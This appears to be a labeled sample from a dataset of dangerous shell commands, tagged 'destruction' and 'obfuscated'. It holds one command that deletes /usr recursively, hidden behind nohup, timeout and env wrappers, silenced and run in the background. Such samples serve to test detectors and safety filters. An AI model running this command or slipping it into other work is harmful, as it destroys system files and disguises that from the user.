# description: Wraps rm -rf /usr in nohup, timeout and env and backgrounds it.
# family: destruction
# obfuscated: yes
nohup timeout 300 env LC_ALL=C rm -rf /usr >/dev/null 2>&1 &
